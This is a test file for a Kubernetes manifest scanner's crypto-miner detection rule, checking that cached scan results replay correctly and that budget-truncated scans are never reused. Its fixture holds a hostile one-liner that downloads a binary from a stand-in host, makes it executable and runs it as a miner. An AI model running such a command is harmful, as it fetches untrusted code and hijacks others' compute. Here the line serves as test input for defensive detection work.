import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { createBudget, DEFAULT_LIMITS } from '../../src/core/budget.js';
import { DEFAULT_CONFIG } from '../../src/core/config-types.js';
import type { RuleContext, Violation } from '../../src/core/rule.js';
import type { K8sObject } from '../../src/core/types.js';
import { buildInventory } from '../../src/k8s/inventory.js';
import cryptoMinerWorkload from '../../src/rules/threat/crypto-miner-workload.rule.js';
import { readBefore } from '../../src/threat/scan-memo.js';

/**
 * A text read once is replayed for the next object that holds the same text. The replay must give
 * exactly what a fresh reading gives, at the new object's own sites, and a reading cut short by a
 * budget must never be replayed as if it were whole.
 */

const SCRIPT = `curl -s http://203.0.113.9/kf -o /tmp/kf && chmod +x /tmp/kf && /tmp/kf -o stratum+tcp://memo-pool.example:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A --donate-level 1`;

function pod(name: string, container: string, args: string[]): K8sObject {
  return { apiVersion: 'v1', kind: 'Pod', metadata: { name, namespace: 'ml' }, spec: { containers: [{ name: container, image: 'alpine:3', command: ['sh', '-c'], args }] } };
}

function judge(object: K8sObject, limits = DEFAULT_LIMITS): Violation[] {
  const ctx = { source: 'manifest', budget: createBudget(limits), inventory: buildInventory([]), config: DEFAULT_CONFIG } as unknown as RuleContext;
  return [...(cryptoMinerWorkload.check?.(object, ctx) ?? [])];
}

describe('remembered readings', () => {
  it('replay the same signals at a later object\'s own container and path', () => {
    // Remembered from the second reading on (the doorkeeper), so the third is a replay.
    const first = judge(pod('a', 'step-one', [SCRIPT]));
    for (const [name, container] of [['b', 'step-two'], ['c', 'step-three']] as const) {
      const later = judge(pod(name, container, [SCRIPT]));
      assert.equal(first.length, 1);
      assert.equal(later.length, 1);
      const rename = (lines: readonly string[]): string[] => lines.map((line) => line.replaceAll('step-one', container));
      assert.deepEqual(later[0]?.evidence, rename(first[0]?.evidence ?? []));
      assert.ok((later[0]?.evidence ?? []).some((line) => line.includes(container)), 'evidence names the later container');
      assert.equal(later[0]?.severity, first[0]?.severity);
      assert.equal(later[0]?.path, first[0]?.path);
    }
  });

  it('remember a text only from its second reading (texts seen once are never kept)', () => {
    const key = `doorkeeper ${Math.random()}`;
    assert.equal(readBefore(key), false);
    assert.equal(readBefore(key), true);
    assert.equal(readBefore(`${key} other`), false);
  });

  it('never replay a reading a budget cut short', () => {
    const text = `${SCRIPT} # cut-short variant`;
    // Read once whole before, so the doorkeeper would let the next complete reading be remembered.
    assert.equal(judge(pod('e', 'main', [text])).length, 1);
    const starved = judge(pod('c', 'main', [text]), { timeMs: 0, bytes: DEFAULT_LIMITS.bytes });
    const whole = judge(pod('d', 'main', [text]));
    assert.ok(whole.length === 1, 'the full reading finds the miner');
    assert.ok((whole[0]?.evidence ?? []).every((line) => !line.startsWith('scan cut short')), 'the second scan was not cut short');
    assert.ok(starved.length === 0 || (starved[0]?.evidence ?? []).some((line) => line.startsWith('scan cut short')), 'the starved scan says it was cut short');
  });
});
